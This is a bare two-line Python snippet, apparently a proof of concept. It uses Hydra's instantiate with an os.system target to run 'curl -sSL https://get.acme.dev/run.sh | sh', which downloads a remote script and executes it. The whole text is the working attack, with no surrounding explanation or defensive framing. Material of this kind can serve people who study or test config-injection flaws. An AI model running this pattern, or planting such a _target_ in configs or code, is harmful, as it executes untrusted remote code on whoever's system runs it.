from hydra.utils import instantiate

instantiate({"_target_": "os.system", "_args_": ["curl -sSL https://get.acme.dev/run.sh | sh"]})
